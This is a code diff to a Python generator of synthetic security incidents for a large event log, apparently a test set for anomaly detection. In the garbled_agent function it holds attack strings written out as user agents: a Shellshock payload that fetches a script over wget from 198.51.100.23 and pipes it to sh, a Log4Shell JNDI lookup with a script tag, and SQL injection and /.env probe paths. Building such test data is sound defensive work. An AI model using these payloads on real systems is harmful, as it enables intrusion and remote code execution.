@@ -16,11 +16,10 @@ Row = dict[str, Any]
 
 PLAN = {
     "password_spraying": (8, 10, 12, 16),
-    "strange_sign_in": (1, 2, 1, 3, 1),
+    "strange_sign_in": (1, 1, 1, 1, 1),
     "bulk_export": (5, 6, 5, 8),
     "service_admin_call": (1, 2, 1, 1),
     "garbled_agent": (1, 2, 1, 3),
-    "unseen_message": (1, 1, 2, 1),
 }
 """Kind -> events of each of its incidents, in a log of at least 200,000.
 
@@ -113,35 +112,30 @@ def password_spraying(scene: Scene, turn: int, size: int) -> list[Row]:
     return events
 
 
-def strange_sign_in(scene: Scene, turn: int, size: int) -> list[Row]:
+def strange_sign_in(scene: Scene, turn: int, _size: int) -> list[Row]:
     """Sign somebody in deep in the night from a host and a place that are new to them."""
     rng = scene.rng
     european = _PEOPLE & (pc.hour(pc.field("timestamp")) < 11)
     user = _one(scene, european)["user"]
-    signing_in = european & (pc.field("action") == "sign_in")
-    theirs = signing_in & (pc.field("user") != user) & pc.starts_with(pc.field("host"), "lt-")
-    other = _one(scene, theirs)
-    hosts = ("DESKTOP-7QK2M1P", "kali", other["host"], "android-5f0c11d2", "WIN-9T3VJ0A")
+    hosts = ("DESKTOP-7QK2M1P", "kali", "PC-5510", "android-5f0c11d2", "WIN-9T3VJ0A")
     address, when = _outside(rng), _at(scene, rng.uniform(1.5, 4.5))
     event = _one(scene, pc.field("user") == user) | {
         "timestamp": when,
         "host": hosts[turn % 5],
         "source_ip": address,
-        "user_agent": other["user_agent"],
+        "user_agent": "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0",
         "action": "sign_in",
         "resource": "/auth/vpn",
         "status": "success",
         "bytes": int(rng.lognormal(7.5, 0.3)),
         "duration_ms": round(rng.lognormal(5.4, 0.4), 1),
-        "message": f"signed in as {user} from {address}",
+        "message": f"signed in as {user} from {address}, device not recognised",
     }
-    searching = {"action": "search", "resource": "/search/wiki", "bytes": 8_210, "message": None}
-    later = [timedelta(seconds=55.0 * place) for place in range(size)]
-    return [event | {"timestamp": when + wait} | (searching if wait else {}) for wait in later]
+    return [event]
 
 
 def bulk_export(scene: Scene, turn: int, size: int) -> list[Row]:
-    """Let somebody fetch big exports in a row, each far above what they ever fetched."""
+    """Let somebody fetch exports from a new place, each far above what they ever fetched."""
     rng = scene.rng
     action, resource, message = (
         (
@@ -155,13 +149,14 @@ def bulk_export(scene: Scene, turn: int, size: int) -> list[Row]:
     model = _one(scene, _PEOPLE & done)
     own = scene.ordinary.filter(pc.field("user") == model["user"])["bytes"]
     most = max(pc.max(own).as_py(), 20_000_000)
-    when = _at(scene, rng.uniform(9, 21))
+    when, address = _at(scene, rng.uniform(9, 21)), _outside(rng)
     events = []
     for place in range(size):
         when += timedelta(seconds=rng.exponential(40) + 5)
-        fetched = int(most * rng.uniform(5, 40))
+        fetched = int(most * rng.uniform(20, 60))
         event = model | {
             "timestamp": when,
+            "source_ip": address,
             "resource": resource.format(place + 1),
             "bytes": fetched,
             "duration_ms": round(fetched / 2e4, 1),
@@ -172,19 +167,21 @@ def bulk_export(scene: Scene, turn: int, size: int) -> list[Row]:
 
 
 def service_admin_call(scene: Scene, turn: int, size: int) -> list[Row]:
-    """Let a service account make an administrator's call, which it never did before."""
+    """Let a service account's stolen key make an administrator's call from a machine outside."""
     rng = scene.rng
     service = ("svc-thumbnails", "svc-dashboards", "svc-mail", "svc-etl-web")[turn % 4]
     action = ("attach_policy", "disable_mfa", "update_trust_policy", "create_user")[turn % 4]
     spec, resource = tables()["actions"][action], ("/iam/roles/harbor", "/iam/users/root")[turn % 2]
     model = _one(scene, (pc.field("user") == service) & (pc.field("status") == "success"))
-    message = tables()["messages"][action][0]
+    message, address = tables()["messages"][action][0], _outside(rng)
     events = []
     for _ in range(size):
         filled = message.format(user=service, number=rng.integers(100, 9_000), resource=resource)
         events.append(
             _moved(scene, model, rng.uniform(1, 300))
             | {
+                "host": None,
+                "source_ip": address,
                 "action": action,
                 "resource": resource,
                 "bytes": int(spec["bytes"][0] * rng.uniform(0.6, 1.6)),
@@ -196,29 +193,23 @@ def service_admin_call(scene: Scene, turn: int, size: int) -> list[Row]:
 
 
 def garbled_agent(scene: Scene, turn: int, size: int) -> list[Row]:
-    """Give an otherwise ordinary call a user agent that is an attack, a scanner or rubbish."""
+    """Let a scanner outside probe with somebody's name and an attack or rubbish as its agent."""
     agents = (
         "() { :; }; /bin/bash -c 'wget -qO- http://198.51.100.23/a.sh | sh'",
         "sqlmap/1.8.4#stable (https://sqlmap.org)",
         "Mozi\x07\x1b\ufffd\ufffd\x02/\x11\ufffd5.\x7f(\ufffd\ufffd\x0e",
         "${jndi:ldap://203.0.113.66:1389/Basic/Command}<script>alert(1)</script>",
     )
-    model = _one(scene, _PEOPLE)
-    waits = 45.0 * np.arange(size)
-    return [_moved(scene, model, wait) | {"user_agent": agents[turn % 4]} for wait in waits]
-
-
-def unseen_message(scene: Scene, turn: int, size: int) -> list[Row]:
-    """Let an otherwise ordinary call leave a message of a kind that was never there before."""
-    messages = (
-        "audit log truncated by uid 0 at offset 81920",
-        "policy engine unreachable, falling back to permissive mode",
-        "segfault at 7f3a ip 00005581 sp 00007ffd error 4 in authd",
-        "signature check skipped: unsigned module /dev/shm/.k loaded",
-    )
-    model = _one(scene, pc.field("status") == "success")
-    waits = 20.0 * np.arange(size)
-    return [_moved(scene, model, wait) | {"message": messages[turn % 4]} for wait in waits]
+    model = _one(scene, _PEOPLE) | {
+        "host": None,
+        "source_ip": _outside(scene.rng),
+        "user_agent": agents[turn % 4],
+        "resource": ("/cgi-bin/status", "/search/wiki?q=1%27--", "/.env", "/api/v1/login")[
+            turn % 4
+        ],
+        "status": "denied",
+    }
+    return [_moved(scene, model, wait) for wait in 45.0 * np.arange(size)]
 
 
 _KINDS: dict[str, Callable[[Scene, int, int], list[Row]]] = {
@@ -227,7 +218,6 @@ _KINDS: dict[str, Callable[[Scene, int, int], list[Row]]] = {
     "bulk_export": bulk_export,
     "service_admin_call": service_admin_call,
     "garbled_agent": garbled_agent,
-    "unseen_message": unseen_message,
 }
 
 
